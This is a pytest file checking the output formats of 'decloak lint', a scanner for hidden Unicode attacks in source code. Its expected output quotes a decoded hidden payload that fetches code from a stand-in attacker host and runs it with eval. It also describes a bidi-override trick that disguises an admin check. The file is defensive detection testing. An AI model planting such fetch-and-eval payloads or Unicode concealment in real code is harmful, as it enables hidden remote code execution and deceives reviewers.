"""Every output format of decloak lint: text, JSON, SARIF 2.1.0 (schema-validated), GitHub."""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema
import pytest

import decloak
from decloak.lint import RULES, Severity
from decloak.lint.report import render, sarif, summary
from decloak.lint.run import FileResult, lint_paths

DATA = Path(__file__).parent / "data"
SCHEMA = json.loads((DATA / "sarif-2.1.0.json").read_text(encoding="utf-8"))


@pytest.fixture
def results(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> list[FileResult]:
    """The JavaScript attacks and a clean file, plus one binary file, linted from DATA/lint."""
    monkeypatch.chdir(DATA / "lint")
    found = list(lint_paths(["attacks/js", "clean/multilingual.py"]))
    binary = tmp_path / "logo.png"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    return [*found, *lint_paths([str(binary)])]


def test_text_format(results: list[FileResult]) -> None:
    out = render("text", results, version="1.0", fixing=False).splitlines()
    assert len(out) == sum(len(r.findings) for r in results) == 11
    assert out[0] == (
        "attacks/js/commenting_out.js:3:3: error bidi: bidi controls make this line display in "
        "another order than stored; U+202E RIGHT-TO-LEFT OVERRIDE and U+2066 LEFT-TO-RIGHT "
        "ISOLATE left open at the end of the comment; stored: `/*<U+202E> } <U+2066>if "
        "(isAdmin)<U+2069> <U+2066> begin admins only */`, displayed: `/* begin admins only */ "
        "if (isAdmin) } ` [bidi-reorder]"
    )
    assert (
        "attacks/js/glassworm.js:5:19: error variation-payload: 67 variation selectors outside "
        "any variation sequence hide a payload that decodes to "
        '`fetch("https://attacker.invalid/c2").then(r => r.text()).then(eval)` '
        "[variation-payload]"
    ) in out
    assert summary(results) == ("decloak: 11 findings (9 errors, 2 warnings) in 7 files, 1 skipped")


def test_json_format(results: list[FileResult]) -> None:
    doc = json.loads(render("json", results, version="1.0", fixing=False))
    assert set(doc) == {"findings", "files", "skipped"}
    assert (doc["files"], doc["skipped"], len(doc["findings"])) == (7, 1, 11)
    first = doc["findings"][0]
    assert list(first) == [
        "path", "line", "column", "end_line", "end_column", "kind", "severity", "message", "rule",
    ]  # fmt: skip
    assert first["path"] == "attacks/js/commenting_out.js"
    assert (first["line"], first["column"], first["end_line"], first["end_column"]) == (3, 3, 3, 44)
    assert (first["kind"], first["severity"], first["rule"]) == ("bidi", "error", "bidi-reorder")
    kinds = {f["kind"] for f in doc["findings"]}
    assert kinds == {"bidi", "variation-payload", "mixed-script", "confusable", "invisible"}
    assert "fixed" in json.loads(render("json", results, version="1.0", fixing=True))


def test_sarif_is_valid_and_complete(results: list[FileResult]) -> None:
    doc = json.loads(render("sarif", results, version=decloak.__version__, fixing=False))
    jsonschema.Draft4Validator(SCHEMA).validate(doc)
    assert doc["version"] == "2.1.0"
    (run,) = doc["runs"]
    driver = run["tool"]["driver"]
    assert (driver["name"], driver["version"]) == ("decloak", decloak.__version__)
    assert [r["id"] for r in driver["rules"]] == [r.id for r in RULES]
    for descriptor, rule in zip(driver["rules"], RULES, strict=True):
        assert descriptor["help"]["text"].startswith(rule.help)
        assert descriptor["shortDescription"]["text"] == rule.summary
        assert descriptor["defaultConfiguration"]["level"] == rule.severity.value
    assert run["columnKind"] == "unicodeCodePoints"
    assert len(run["results"]) == 11
    res = run["results"][0]
    assert res["ruleId"] == "bidi-reorder" and res["level"] == "error"
    assert driver["rules"][res["ruleIndex"]]["id"] == res["ruleId"]
    loc = res["locations"][0]["physicalLocation"]
    assert loc["artifactLocation"] == {
        "uri": "attacks/js/commenting_out.js",
        "uriBaseId": "%SRCROOT%",
    }
    assert loc["region"] == {"startLine": 3, "startColumn": 3, "endLine": 3, "endColumn": 44}
    # the skipped binary is a notification, with a file URI (its path was absolute)
    (note,) = run["invocations"][0]["toolExecutionNotifications"]
    assert note["message"]["text"] == "skipped: binary (NUL byte in the first 8 KB)"
    assert note["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].startswith(
        "file:///"
    )
    fingerprints = {r["partialFingerprints"]["decloakFinding/v1"] for r in run["results"]}
    assert len(fingerprints) == 11


def test_command_offers_every_format() -> None:
    from decloak.lint.cli import _FORMATS
    from decloak.lint.report import FORMATS

    assert _FORMATS == FORMATS


def test_sarif_of_a_clean_run_is_valid() -> None:
    doc = sarif([FileResult("a.py")], "0.1.0")
    jsonschema.Draft4Validator(SCHEMA).validate(doc)
    assert doc["runs"][0]["results"] == []


def test_github_format(results: list[FileResult]) -> None:
    out = render("github", results, version="1.0", fixing=False).splitlines()
    assert len(out) == 11
    assert out[0].startswith(
        "::error file=attacks/js/commenting_out.js,line=3,col=3,endLine=3,endColumn=44,"
        "title=decloak bidi-reorder::bidi controls make this line display"
    )
    levels = {line.split(" ", 1)[0] for line in out}
    assert levels == {"::error", "::warning"}


def test_github_escaping() -> None:
    from decloak.lint.check import LintFinding

    f = LintFinding("invisible", "invisible", Severity.WARNING, "100% hidden", 0, 1, 2, 3, 2, 4)
    out = render("github", [FileResult("dir,x/a:b.py", (f,))], version="1", fixing=False)
    assert out == (
        "::warning file=dir%2Cx/a%3Ab.py,line=2,col=3,endLine=2,endColumn=4,"
        "title=decloak invisible::100%25 hidden\n"
    )
    fixed = render("github", [FileResult("a.py", (), (f,))], version="1", fixing=True)
    assert fixed.startswith("::notice file=a.py,") and fixed.endswith("::fixed: 100%25 hidden\n")
